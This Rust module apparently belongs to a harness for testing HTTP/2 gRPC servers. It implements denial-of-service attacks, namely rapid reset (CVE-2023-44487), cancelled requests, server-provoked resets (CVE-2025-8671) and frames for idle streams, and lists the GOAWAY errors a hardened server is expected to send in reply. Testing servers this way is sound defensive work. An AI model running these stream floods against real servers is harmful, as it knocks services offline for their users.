//! Calls that are begun to be ended: what a server must do for a stream costs more than to open one.

use crate::attacker::{Attacker, Over, request, request_with, streams};
use crate::frames::{goaway, reset, window};
use crate::support::{DATA, END_HEADERS, END_STREAM, HEADERS, block, frame};
use crate::{Attack, Cost};

const CANCEL: u32 = 8;
const SAY_HELLO: &str = "/helloworld.Greeter/SayHello";
/// Answers with as many messages as the request asks for.
pub const SAY_HELLOS: &str = "/hellostreamingworld.MultiGreeter/sayHello";

pub fn attacks() -> Vec<Attack> {
    vec![
        Attack::new(
            "rapid_reset",
            Cost::Control,
            &[
                "open",
                "GOAWAY 11 too_many_cancellations",
                "GOAWAY 11 too_many_resets",
            ],
            |attacker| Box::pin(rapid_reset(attacker)),
        ),
        Attack::new(
            "cancelled_before_the_response",
            Cost::Control,
            &[
                "open",
                "GOAWAY 11 too_many_cancellations",
                "GOAWAY 11 too_many_resets",
            ],
            |attacker| Box::pin(cancelled(attacker)),
        ),
        Attack::new(
            "made_you_reset",
            Cost::Control,
            &[
                "GOAWAY 11 too_many_stream_errors",
                "GOAWAY 11 too_many_internal_resets",
                // These count as well what the faults are made of.
                "GOAWAY 11 too_many_idle_frames",
                "GOAWAY 11 too_many_window_updates",
            ],
            |attacker| Box::pin(made_you_reset(attacker)),
        ),
        Attack::new(
            "frames_for_idle_streams",
            Cost::Control,
            &["GOAWAY 0", "GOAWAY 1"],
            |attacker| Box::pin(idle_streams(attacker)),
        ),
    ]
}

/// Opens streams and resets each at once: the peer's limit of open streams is never reached.
/// CVE-2023-44487.
async fn rapid_reset(attacker: &mut Attacker) -> Result<(), Over> {
    attacker.begin(&[]).await?;
    for stream in streams() {
        let pair = [request(stream, SAY_HELLO, &[]), reset(stream, CANCEL)];
        attacker.send(&pair.concat()).await?;
    }
    Ok(())
}

/// The same with whole requests, whose handlers begin to work at once.
async fn cancelled(attacker: &mut Attacker) -> Result<(), Over> {
    attacker.begin(&[]).await?;
    let message = greetings("x", 1_000_000);
    for stream in streams() {
        let call = [
            request(stream, SAY_HELLOS, &[]),
            frame(DATA, END_STREAM, stream, &message),
            reset(stream, CANCEL),
        ];
        attacker.send(&call.concat()).await?;
    }
    Ok(())
}

/// A `HelloRequest` of `MultiGreeter`, prefix and all: field 1 is a name, 2 a number as text.
pub fn greetings(name: &str, count: u32) -> Vec<u8> {
    let count = count.to_string();
    let mut body = Vec::new();
    for (tag, text) in [(0x0a, name), (0x12, &*count)] {
        body.push(tag);
        body.push(u8::try_from(text.len()).expect("a length below 128"));
        body.extend(text.as_bytes());
    }
    let length = u32::try_from(body.len()).unwrap().to_be_bytes();
    [&[0][..], &length, &body].concat()
}

/// Opens streams and makes the server reset them, in one of several ways. CVE-2025-8671.
async fn made_you_reset(attacker: &mut Attacker) -> Result<(), Over> {
    const MOST: u32 = 0x7fff_ffff;
    attacker.begin(&[]).await?;
    for stream in streams() {
        let open = request(stream, SAY_HELLO, &[]);
        let fault = match attacker.number % 5 {
            0 => [open, window(stream, MOST)].concat(),
            1 => [
                request(stream, SAY_HELLO, &[("content-length", "1")]),
                frame(DATA, END_STREAM, stream, b"xx"),
            ]
            .concat(),
            2 => frame(HEADERS, END_HEADERS, stream, &block(&[(":method", "POST")])),
            // It depends on itself, with weight 16.
            3 => [
                open,
                frame(2, 0, stream, &[&stream.to_be_bytes()[..], &[16]].concat()),
            ]
            .concat(),
            _ => request_with(stream, END_STREAM, SAY_HELLO, &[("connection", "close")]),
        };
        attacker.send(&fault).await?;
    }
    Ok(())
}

/// Speaks of streams that nobody has opened, or never will.
async fn idle_streams(attacker: &mut Attacker) -> Result<(), Over> {
    attacker.begin(&[]).await?;
    let farewell = goaway(0, 0, b"not yet");
    match attacker.number % 4 {
        0 => attacker.send(&reset(1, CANCEL)).await?,
        1 => attacker.send(&window(0x7fff_ffff, 1)).await?,
        2 => attacker.send(&frame(DATA, 0, 99, b"x")).await?,
        // Many farewells, and calls all the same.
        _ => {
            for stream in streams().take(1_000) {
                let call = request_with(stream, END_STREAM, SAY_HELLO, &[]);
                attacker.send(&[&farewell[..], &call].concat()).await?;
            }
            attacker.send(&reset(1_000_001, CANCEL)).await?;
        }
    }
    attacker.listen().await?;
    Ok(())
}
